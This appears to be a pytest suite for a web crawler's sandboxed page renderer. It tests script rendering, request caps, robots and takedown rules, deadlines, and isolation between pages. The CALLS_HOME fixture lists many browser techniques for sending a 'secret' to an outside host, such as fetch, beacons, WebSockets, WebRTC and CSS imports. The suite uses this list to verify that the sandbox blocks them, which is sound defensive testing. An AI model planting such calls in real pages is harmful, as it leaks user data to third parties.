"""What a script puts on a page is seen, and nothing that a page tries gets past us."""

from datetime import timedelta

import pytest
from tests.browser.conftest import Listener, Stage, html, script
from tests.integration.fetch.conftest import robots

from headwater.fetch.render import MOST_REQUESTS, Rendered, RenderFailed, WhyFailed
from headwater.ingest.taking_down import take_down_everywhere
from headwater.politeness.takedown import parse_takedown
from headwater.simweb.message import Page

pytestmark = [
    pytest.mark.browser,
    pytest.mark.asyncio(loop_scope="session"),
]

# Everything a page can think of to call home with; `done` says that it went through all of it.
CALLS_HOME = """
const at = HOME, tries = [
  () => fetch(`http://${at}/fetch`), () => fetch(`http://${at}/post`, {method: "POST", body: "secret"}),
  () => new WebSocket(`ws://${at}/socket`), () => new EventSource(`http://${at}/events`),
  () => navigator.sendBeacon(`http://${at}/beacon`, "secret"), () => { new Image().src = `http://${at}/image` },
  () => import(`http://${at}/module.js`), () => window.open(`http://${at}/window`),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("http://${at}/worker"); new WebSocket("ws://${at}/worker")`]))),
  () => new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://${at}/shared")`]))),
  () => new WebTransport(`https://${at}/transport`),
  () => navigator.serviceWorker.register("/worker.js"),
  async () => {
    const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${at}`},
      {urls: `turn:${at}?transport=tcp`, username: "u", credential: "p"}]})
    peer.createDataChannel("secret")
    await peer.setLocalDescription(await peer.createOffer())
  },
  ...["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "icon", "manifest"].map(rel => () => {
    const link = document.createElement("link")
    Object.assign(link, {rel, href: `http://${at}/${rel}`, as: "script"})
    document.head.append(link)
  }),
  ...["iframe", "video", "embed", "script"].map(name => () => {
    const element = document.createElement(name)
    element.src = `http://${at}/${name}`
    document.body.append(element)
  }),
  () => {
    const style = document.createElement("style")
    style.textContent = `@import "http://${at}/import"; p { background: url(http://${at}/background) }`
    document.head.append(style)
  },
  () => { location.href = `http://${at}/away` },
]
for (const one of tries) { try { one()?.catch?.(() => {}) } catch {} }
p.textContent = "done"
"""


async def test_text_that_only_a_script_writes_is_seen(stage: Stage) -> None:
    stage.site.pages["/"] = html("<p id=p>Loading</p><script src=/app.js></script>")
    stage.site.pages["/app.js"] = script("p.textContent = 'Written by ' + 'script'")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "Written by script" in result.html
    assert result.final_url == "http://a.test/"
    assert stage.asked() == ["a.test/", "a.test/app.js"]


@pytest.mark.long
async def test_what_a_script_asks_of_its_own_site_is_fetched_and_counted(stage: Stage) -> None:
    stage.site.pages["/"] = html(
        "<p id=p></p><p id=q></p><script>fetch('/data.json').then(r => r.json()).then(d => p.textContent = d.text)\n"
        "const x = new XMLHttpRequest(); x.open('GET', 'http://www.a.test/more')\n"
        "x.onload = () => q.textContent = x.response; x.send()</script>"
    )
    stage.site.pages["/data.json"] = Page(b'{"text": "From the site"}', "application/json")
    stage.twin.pages["/more"] = Page(b"And its twin", "text/plain", headers=(("Access-Control-Allow-Origin", "*"),))
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "From the site" in result.html
    assert "And its twin" in result.html
    assert result.requests == 3
    assert sorted(stage.asked()) == ["a.test/", "a.test/data.json", "www.a.test/more"]


@pytest.mark.long
async def test_every_request_for_a_page_is_ours_by_name_and_without_cookies(stage: Stage) -> None:
    stage.site.pages["/"] = html(
        "<script>document.cookie = 'a=1'; document.title = navigator.userAgent</script><script src=/app.js></script>"
    )
    stage.site.pages["/app.js"] = script("")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "<title>Headwater/" in result.html
    assert {visit.user_agent[:10] for visit in stage.path.visits()} == {"Headwater/"}
    assert not any(visit.has_cookie for visit in stage.path.visits())


@pytest.mark.long
@pytest.mark.parametrize("is_name", [True, False], ids=["another site", "loopback"])
async def test_a_page_cannot_call_anybody_but_its_own_site(stage: Stage, listener: Listener, is_name: bool) -> None:
    home = "b.test" if is_name else f"127.0.0.1:{listener.port}"
    stage.with_renderer(quiet_within=timedelta(seconds=3))
    stage.site.pages["/"] = html(f"<p id=p>waiting</p><script>{CALLS_HOME.replace('HOME', repr(home))}</script>")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "done" in result.html
    assert listener.callers == []
    assert stage.asked() == ["a.test/"]


@pytest.mark.long
async def test_neither_looks_nor_anything_but_a_question_reaches_the_site(stage: Stage) -> None:
    stage.with_renderer(quiet_within=timedelta(seconds=3))
    stage.site.pages["/"] = html(
        "<link rel=stylesheet href=/s.css><img src=/i.png><video src=/v.mp4></video><link rel=icon href=/icon.png>"
        "<style>@font-face { font-family: f; src: url(/f.woff) } p { font-family: f; background: url(/b.png) }</style>"
        "<p>Text<form id=f method=post action=/form></form><script>fetch('/post', {method: 'POST'})\n"
        "fetch('/put', {method: 'PUT'}); navigator.sendBeacon('/beacon'); f.submit()</script>"
    )
    assert isinstance(await stage.render(), Rendered)
    assert stage.asked() == ["a.test/"]


@pytest.mark.long
async def test_a_page_gets_so_many_requests_and_no_more(stage: Stage) -> None:
    # However busy the machine is: the page is at rest when it has asked for all of them.
    stage.with_renderer(quiet=timedelta(seconds=2), quiet_within=timedelta(seconds=30))
    stage.site.pages["/"] = html("<script>for (let n = 0; n < 50; n++) fetch('/part?n=' + n).catch(() => {})</script>")
    stage.site.pages["/part"] = script("")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert result.requests == MOST_REQUESTS
    assert len(stage.asked()) == MOST_REQUESTS


@pytest.mark.long
async def test_redirects_of_parts_are_requests_too(stage: Stage) -> None:
    stage.site.pages["/"] = html("<script>for (let n = 0; n < 15; n++) fetch('/part?n=' + n).catch(() => {})</script>")
    stage.site.pages["/part"] = Page(b"", status=302, headers=(("Location", "/end"),))
    stage.site.pages["/end"] = script("")
    await stage.render()
    assert len(stage.asked()) == MOST_REQUESTS


@pytest.mark.long
async def test_parts_that_robots_or_a_takedown_forbid_are_not_requested(stage: Stage) -> None:
    stage.site.pages["/robots.txt"] = robots("User-agent: *\nDisallow: /private/\n")
    stage.site.pages["/"] = html(
        "<p id=p>plain</p><script src=/private/app.js></script><script src=/gone/app.js></script>"
    )
    stage.site.pages["/private/app.js"] = stage.site.pages["/gone/app.js"] = script("p.textContent = 'forbidden'")
    await take_down_everywhere(stage.path.database, parse_takedown("http://a.test/gone"), "asked to")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "plain" in result.html
    assert stage.asked() == ["a.test/"]


@pytest.mark.long
async def test_a_page_that_goes_on_by_script_is_followed_on_its_site(stage: Stage) -> None:
    stage.site.pages["/"] = html("<script>location.replace('/next')</script>")
    stage.site.pages["/next"] = html("<p>The next page</p>")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "The next page" in result.html
    assert result.final_url == "http://a.test/next"


@pytest.mark.long
async def test_a_page_that_leaves_for_nowhere_is_no_page(stage: Stage) -> None:
    stage.site.pages["/"] = html("<script>location.href = 'about:blank'</script>")
    result = await stage.render()
    assert isinstance(result, RenderFailed)
    assert result.reason is WhyFailed.LEFT_SITE


@pytest.mark.long
async def test_an_endless_script_ends_with_the_deadline(stage: Stage) -> None:
    stage.with_renderer(deadline=timedelta(seconds=1))
    stage.site.pages["/"] = html("<p>Text</p><script>while (true) {}</script>")
    result = await stage.render()
    assert isinstance(result, RenderFailed)
    assert result.reason is WhyFailed.DEADLINE


@pytest.mark.long
async def test_a_page_that_never_rests_is_taken_as_it_stands(stage: Stage) -> None:
    stage.with_renderer(quiet_within=timedelta(seconds=3))
    stage.site.pages["/"] = html("<p>Text</p><script>setInterval(() => fetch('/tick').catch(() => {}), 100)</script>")
    stage.site.pages["/tick"] = script("")
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "Text" in result.html


@pytest.mark.long
async def test_a_page_that_grows_beyond_all_bounds_is_refused(stage: Stage) -> None:
    stage.with_renderer(longest_html=10_000)
    stage.site.pages["/"] = html("<script>document.body.append('x'.repeat(20000))</script>")
    result = await stage.render()
    assert isinstance(result, RenderFailed)
    assert result.reason is WhyFailed.TOO_LARGE


@pytest.mark.long
async def test_a_page_cannot_lie_about_its_text_nor_break_it(stage: Stage) -> None:
    stage.site.pages["/"] = html(
        "<p id=p></p><script>p.textContent = 'half \\ud800 a pair'\n"
        "Object.defineProperty(Element.prototype, 'outerHTML', {get: () => 'a lie'})</script>"
    )
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert '<p id="p">half \ufffd a pair</p>' in result.html


@pytest.mark.long
async def test_pages_share_nothing(stage: Stage) -> None:
    stage.site.pages["/"] = html(
        "<p id=p></p><script>p.textContent = `seen ${localStorage.n ?? 'nothing'}`; localStorage.n = 'before'</script>"
    )
    await stage.render()
    result = await stage.render()
    assert isinstance(result, Rendered)
    assert "seen nothing" in result.html
